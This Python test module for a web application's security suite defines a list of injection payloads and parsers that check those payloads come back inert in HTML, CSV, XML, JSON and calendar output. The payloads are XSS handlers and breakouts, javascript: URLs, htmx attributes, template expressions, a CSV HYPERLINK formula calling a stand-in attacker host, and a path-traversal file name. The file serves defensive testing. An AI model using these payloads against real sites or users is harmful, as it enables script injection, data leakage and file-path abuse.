"""Hostile payloads, and the checks that they stayed inert wherever they come back out.

Each payload carries a marker (a short unique word) inside its dangerous part: an event
handler's code, a URL, a template expression. The checks parse what the server sent the way
a browser (or a spreadsheet) would, and look for the marker where it would act: in a tag or
attribute name, in an event handler or htmx attribute, in a script, in a `javascript:` URL,
in an evaluated template expression, at the start of a CSV cell.
"""

import csv
import io
import json
import re
from html.parser import HTMLParser
from xml.etree import ElementTree

# name -> payload; "{m}" is replaced by the marker. At most 50 characters with a 6-character
# marker, so that each fits the shortest user-writable field (a 60-character display name).
# Markers are "zq" + 3 digits + "x": each field of a test gets its own, so that a finding
# names the field it came from.
PAYLOADS = {
    "svg-onload": "<svg onload=alert('{m}')>",
    "attribute-breakout": "\"><img src=x onerror=alert('{m}')>",
    "single-quote-breakout": "' autofocus onfocus=alert('{m}') x='",
    "script": "</textarea><script>alert('{m}')</script>",
    "javascript-url": "javascript:alert('{m}')",
    "javascript-link": "<a href=\"javascript:alert('{m}')\">{m}</a>",
    "htmx-attributes": '<b hx-on:click="alert(\'{m}\')" hx-get="/{m}">x</b>',
    "template": "{{{{7*191}}}}{m}${{7*191}}",
    "csv-formula": '=HYPERLINK("http://evil.example/{m}")',
    "file-name": "../../{m}<svg onload=alert(1)>.csv",
}
# What an evaluated "{{7*191}}" becomes.
EVALUATED = "1337"
MARKER = re.compile(r"zq\d{3}x")

EVENT_OR_HTMX = re.compile(r"^(on|hx-|data-hx-)", re.IGNORECASE)
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcdoc",
    "hx-get",
    "hx-post",
    "hx-put",
    "hx-patch",
    "hx-delete",
}
RAW_TEXT_TAGS = {"script", "style"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def marker(n: int) -> str:
    return f"zq{n:03d}x"


def payload(name: str, mark: str) -> str:
    return PAYLOADS[name].format(m=mark)


def _marks(text: str) -> list[str]:
    return MARKER.findall(text.lower())


class _Scanner(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._raw: list[str] = []
        self.text: list[str] = []

    def _tag(self, tag: str, attrs) -> None:
        for mark in _marks(tag):
            self.problems.append(f"{mark}: tag <{tag}> made of user text")
        for name, value in attrs:
            value = value or ""
            for mark in _marks(name):
                self.problems.append(f"{mark}: attribute {name!r} made of user text on <{tag}>")
            if EVENT_OR_HTMX.match(name) or name.lower() == "srcdoc":
                for mark in _marks(value):
                    self.problems.append(f"{mark}: user text in <{tag} {name}={value!r}>")
            if name.lower() in URL_ATTRIBUTES and re.sub(r"\s", "", value.lower()).startswith(
                ("javascript:", "vbscript:", "data:text/html")
            ):
                self.problems.append(f"script URL in <{tag} {name}={value!r}>")

    def handle_starttag(self, tag, attrs):
        self._tag(tag, attrs)
        if tag.lower() in RAW_TEXT_TAGS:
            self._raw.append(tag.lower())

    def handle_startendtag(self, tag, attrs):
        self._tag(tag, attrs)

    def handle_endtag(self, tag):
        if self._raw and self._raw[-1] == tag.lower():
            self._raw.pop()

    def handle_data(self, data):
        if self._raw:
            for mark in _marks(data):
                self.problems.append(f"{mark}: user text inside <{self._raw[-1]}>")
        self.text.append(data)


def _evaluated(text: str) -> list[str]:
    return [
        f"{mark}: a template expression in user text was evaluated"
        for mark in re.findall(EVALUATED + r"(zq\d{3}x)", text.lower())
    ]


def html_problems(html: str) -> list[str]:
    """Where a marker would act in this HTML page or fragment (empty: inert)."""
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    return scanner.problems + _evaluated("".join(scanner.text))


def csv_problems(body: str) -> list[str]:
    """Cells holding a marker that a spreadsheet would run as a formula."""
    problems = []
    head = body.split("\n", 1)[0]
    delimiter = ";" if head.count(";") >= head.count(",") else ","
    for row in csv.reader(io.StringIO(body), delimiter=delimiter):
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                for mark in _marks(cell):
                    problems.append(f"{mark}: CSV cell read as a formula: {cell[:60]!r}")
    return problems + _evaluated(body)


def xml_problems(body: str) -> list[str]:
    """An XML document (the Atom feed) must still parse, with no element made of user text."""
    try:
        root = ElementTree.fromstring(body.encode())  # noqa: S314 - our own feed, in a test
    except ElementTree.ParseError as error:
        return [f"the XML does not parse any more: {error}"]
    problems = []
    for element in root.iter():
        for mark in _marks(element.tag + " " + " ".join(element.attrib)):
            problems.append(f"{mark}: XML element or attribute made of user text")
    return problems + _evaluated(body)


def calendar_problems(body: str) -> list[str]:
    """An iCalendar feed is text for calendars (served with nosniff): it must still parse."""
    from icalendar import Calendar

    try:
        Calendar.from_ical(body)
    except ValueError as error:
        return [f"the iCalendar does not parse any more: {error}"]
    return _evaluated(body)


def text_problems(body: str) -> list[str]:
    """Plain text (an e-mail) is inert by nature; only template evaluation is a finding."""
    return _evaluated(body)


def response_problems(response) -> list[str]:
    """Inert whatever the response is: page, fragment, JSON, CSV, XML or a download."""
    body = response.get_data().decode("utf-8", "replace")
    if not MARKER.search(body.lower()):
        return []
    mimetype = response.mimetype or ""
    problems = []
    if response.headers.get("X-Content-Type-Options") != "nosniff":
        problems.append("user text served without X-Content-Type-Options: nosniff")
    if mimetype == "text/html":
        problems += html_problems(body)
    elif mimetype.endswith("json"):
        try:
            json.loads(body)
        except ValueError as error:
            problems.append(f"JSON that does not parse: {error}")
        problems += _evaluated(body)
    elif mimetype == "text/csv":
        problems += csv_problems(body)
        if "attachment" not in response.headers.get("Content-Disposition", ""):
            problems.append("CSV with user text not served as an attachment")
    elif mimetype.endswith("xml"):
        problems += xml_problems(body)
    elif mimetype == "text/calendar":
        problems += calendar_problems(body)
    else:
        problems.append(f"user text served as {mimetype or 'no type'}")
    return problems
